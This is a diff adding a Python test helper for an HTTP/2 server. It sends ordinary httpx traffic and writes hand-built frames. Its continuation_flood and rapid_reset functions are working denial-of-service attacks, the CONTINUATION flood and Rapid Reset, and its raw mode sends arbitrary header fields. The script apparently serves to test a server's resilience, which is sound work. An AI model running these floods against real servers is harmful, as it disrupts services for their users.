@@ -1,0 +1,248 @@
+"""HTTP/2 as real clients speak it (httpx) and as attackers do (frames written by hand with h2's own parts).
+
+Takes one JSON instruction as its argument and prints one JSON account.
+"""
+
+import json
+import socket
+import ssl
+import sys
+import threading
+import time
+
+import httpx
+from hpack import Encoder
+from hyperframe.frame import ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, RstStreamFrame, SettingsFrame
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def trust(ca: str) -> ssl.SSLContext:
+    return ssl.create_default_context(cafile=ca)
+
+
+def client(do: dict, http2: bool = True) -> httpx.Client:
+    return httpx.Client(
+        http2=http2,
+        http1=not http2,
+        verify=trust(do["ca"]),
+        base_url=f"https://{do['address']}",
+        headers={"Host": do.get("host", "app.example")},
+        timeout=20,
+        trust_env=False,
+    )
+
+
+def account(response: httpx.Response) -> dict:
+    return {
+        "status": response.status_code,
+        "version": response.http_version,
+        "headers": [[name.decode("latin-1"), value.decode("latin-1")] for name, value in response.headers.raw],
+        "body": response.text,
+    }
+
+
+def fetch(do: dict) -> dict:
+    """One request after another on one connection."""
+    answers = []
+    with client(do) as http:
+        for request in do["requests"]:
+            response = http.request(
+                request.get("method", "GET"),
+                request["path"],
+                headers=request.get("headers"),
+                content=request.get("body"),
+                extensions={"sni_hostname": do.get("sni", "app.example")},
+            )
+            answers.append(account(response))
+    return {"answers": answers}
+
+
+def concurrent(do: dict) -> dict:
+    """Many requests at once on one connection."""
+    with client(do) as http:
+        statuses, lock = [], threading.Lock()
+
+        def one():
+            response = http.get(do["path"], headers=do.get("headers"), extensions={"sni_hostname": "app.example"})
+            with lock:
+                statuses.append([response.status_code, response.http_version])
+
+        threads = [threading.Thread(target=one) for _ in range(do["count"])]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+    return {"statuses": statuses}
+
+
+def stream(do: dict) -> dict:
+    """The times at which the parts of a body arrive."""
+    started, times = time.monotonic(), []
+    with client(do) as http:
+        with http.stream("GET", do["path"], extensions={"sni_hostname": "app.example"}) as response:
+            for _ in response.iter_raw():
+                times.append(time.monotonic() - started)
+    return {"times": times}
+
+
+def load(do: dict) -> dict:
+    """Constant load from several clients until the standard input ends; counts what did not answer 200."""
+    stop, lock = threading.Event(), threading.Lock()
+    counts, failures = {"requests": 0}, []
+
+    def worker(number: int):
+        with client(do, http2=number % 2 == 0) as http:
+            while not stop.is_set():
+                try:
+                    response = http.get(do["path"], extensions={"sni_hostname": "app.example"})
+                    failure = None if response.status_code == 200 else str(response.status_code)
+                except httpx.HTTPError as error:
+                    failure = repr(error)
+                with lock:
+                    counts["requests"] += 1
+                    if failure:
+                        failures.append(failure)
+                    if counts["requests"] == 20:
+                        print(json.dumps({"warm": True}), flush=True)
+
+    threads = [threading.Thread(target=worker, args=(number,)) for number in range(do.get("workers", 4))]
+    for thread in threads:
+        thread.start()
+    sys.stdin.read()
+    stop.set()
+    for thread in threads:
+        thread.join()
+    return {"requests": counts["requests"], "failures": failures[:20], "failed": len(failures)}
+
+
+class Raw:
+    """An HTTP/2 connection on which any frame can be written."""
+
+    def __init__(self, do: dict):
+        host, port = do["address"].rsplit(":", 1)
+        context = trust(do["ca"])
+        context.set_alpn_protocols(["h2"])
+        plain = socket.create_connection((host, int(port)), timeout=15)
+        self.socket = context.wrap_socket(plain, server_hostname=do.get("sni", "app.example"))
+        self.encoder = Encoder()
+        self.send(PREFACE, SettingsFrame(0).serialize())
+
+    def send(self, *parts: bytes):
+        self.socket.sendall(b"".join(parts))
+
+    def headers(self, stream: int, fields: list, end_stream: bool) -> bytes:
+        frame = HeadersFrame(stream)
+        frame.data = self.encoder.encode([(name, value) for name, value in fields], huffman=False)
+        frame.flags.add("END_HEADERS")
+        if end_stream:
+            frame.flags.add("END_STREAM")
+        return frame.serialize()
+
+    def exactly(self, length: int) -> bytes:
+        data = b""
+        while len(data) < length:
+            block = self.socket.recv(length - len(data))
+            if not block:
+                raise EOFError
+            data += block
+        return data
+
+    def frame(self) -> Frame:
+        head = self.exactly(9)
+        frame, length = Frame.parse_frame_header(memoryview(head))
+        frame.parse_body(memoryview(self.exactly(length)))
+        return frame
+
+    def outcome(self, streams: set) -> dict:
+        """What became of each stream, and of the connection, until all are decided or it closes."""
+        from hpack import Decoder
+
+        decoder, result = Decoder(), {"streams": {}, "goaway": None, "closed": False}
+        waiting = set(streams)
+        try:
+            while waiting:
+                frame = self.frame()
+                if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
+                    ack = SettingsFrame(0)
+                    ack.flags.add("ACK")
+                    self.send(ack.serialize())
+                elif isinstance(frame, HeadersFrame):
+                    fields = dict(decoder.decode(frame.data))
+                    result["streams"][str(frame.stream_id)] = {"status": fields.get(":status")}
+                    waiting.discard(frame.stream_id)
+                elif isinstance(frame, RstStreamFrame):
+                    result["streams"].setdefault(str(frame.stream_id), {})["reset"] = frame.error_code
+                    waiting.discard(frame.stream_id)
+                elif isinstance(frame, GoAwayFrame):
+                    result["goaway"] = frame.error_code
+                    break
+        except (EOFError, ConnectionError, ssl.SSLError):
+            result["closed"] = True
+        except TimeoutError:
+            result["timeout"] = True
+        return result
+
+
+def raw(do: dict) -> dict:
+    """One stream of exactly these fields (JSON text is taken as Latin-1), with DATA frames if given."""
+    connection = Raw(do)
+    fields = [(name.encode("latin-1"), value.encode("latin-1")) for name, value in do["fields"]]
+    data = do.get("data", [])
+    connection.send(connection.headers(1, fields, end_stream=not data))
+    for number, text in enumerate(data):
+        frame = DataFrame(1)
+        frame.data = text.encode("latin-1")
+        if number == len(data) - 1:
+            frame.flags.add("END_STREAM")
+        connection.send(frame.serialize())
+    return connection.outcome({1})
+
+
+def continuation_flood(do: dict) -> dict:
+    """HEADERS without END_HEADERS, then CONTINUATION frames without end."""
+    connection = Raw(do)
+    first = HeadersFrame(1)
+    first.data = connection.encoder.encode(
+        [(":method", "GET"), (":scheme", "https"), (":path", "/"), (":authority", "app.example")], huffman=False
+    )
+    sent = 0
+    try:
+        connection.send(first.serialize())
+        for number in range(do["frames"]):
+            frame = ContinuationFrame(1)
+            frame.data = b"\x00\x07x-%05d\x7f\x81\x07" % (number % 100000) + b"v" * 1030
+            connection.send(frame.serialize())
+            sent += 1
+    except (ConnectionError, ssl.SSLError, TimeoutError):
+        pass
+    return {"sent": sent, **connection.outcome({1})}
+
+
+def rapid_reset(do: dict) -> dict:
+    """HEADERS at once followed by RST_STREAM, over and over."""
+    connection = Raw(do)
+    fields = [(":method", "GET"), (":scheme", "https"), (":path", do["path"]), (":authority", "app.example")]
+    sent = 0
+    try:
+        for number in range(do["count"]):
+            stream_id = 2 * number + 1
+            reset = RstStreamFrame(stream_id)
+            reset.error_code = 8
+            connection.send(connection.headers(stream_id, fields, end_stream=True), reset.serialize())
+            sent += 1
+    except (ConnectionError, ssl.SSLError, TimeoutError):
+        pass
+    return {"sent": sent, **connection.outcome({2 * do["count"] + 1})}
+
+
+def main():
+    do = json.loads(sys.argv[1])
+    actions = {
+        function.__name__: function
+        for function in (fetch, concurrent, stream, load, raw, continuation_flood, rapid_reset)
+    }
+    print(json.dumps(actions[do.pop("do")](do)), flush=True)
+
+
+main()
